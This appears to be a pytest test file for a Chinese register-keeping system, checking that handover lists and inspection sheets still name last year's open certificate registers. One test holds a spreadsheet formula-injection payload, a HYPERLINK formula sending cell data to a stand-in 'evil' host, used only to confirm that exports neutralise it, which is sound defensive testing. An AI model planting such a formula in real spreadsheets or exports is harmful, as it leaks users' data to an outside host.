"""Last year's registers are named beside this year's wherever registers are told, until they are closed."""

import pytest

from tests.archive import cast
from tests.certificates.cast import LIJIAWAN
from zhengyin.archive.packing.finishing import carried_table
from zhengyin.archive.queries.carried import Carried
from zhengyin.registers.queries import now
from zhengyin.seals.queries.handovers import registers_in_words
from zhengyin.shared.days import day_of
from zhengyin.supervision.queries.known import known_of

pytestmark = pytest.mark.usefixtures("last_year")
TITLE = "为村（居）民出具证明事项登记簿"


def on_the_list() -> str:
    return registers_in_words(LIJIAWAN, day_of(now()))


def on_the_sheet() -> str:
    return dict(known_of(LIJIAWAN, day_of(now())).rows)[TITLE]


@pytest.mark.clause("H3.2.3e")
def test_the_handover_list_names_the_registers_that_are_still_open() -> None:
    """Near miss: a year that was closed is handed over as an archive, not as a register."""
    this = on_the_list().partition("；")[2]
    assert on_the_list() == f"《{TITLE}》{cast.last()}年登记至第{cast.COUNT}号；{this}"
    assert str(cast.last()) not in this
    cast.brought_to("year_closed_now")
    assert on_the_list() == this


def test_years_longer_ago_are_named_without_numbers(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(
        "zhengyin.seals.queries.handovers.registers.open_years",
        lambda **_: {"work": (2023,), "certificates": (2022, 2023), "journal": (2020,)},
    )
    assert on_the_list().startswith("2022年、2023年的登记簿也没有关闭；")


def test_so_does_the_sheet_of_an_inspection() -> None:
    before = f"{cast.last()}年登记到第{cast.COUNT}号，其中补登2件；"
    assert on_the_sheet().startswith(before)
    this = on_the_sheet().removeprefix(before)
    cast.brought_to("year_closed_now")
    assert on_the_sheet() == this


def test_no_cell_of_a_list_in_the_package_is_a_formula() -> None:
    said = Carried("x", '=HYPERLINK("http://evil/"&A1,"点这里")', now(), "已申请")
    table = carried_table((said,)).decode("utf-8-sig")
    assert "'=HYPERLINK" in table and '"=' not in table and ",=" not in table
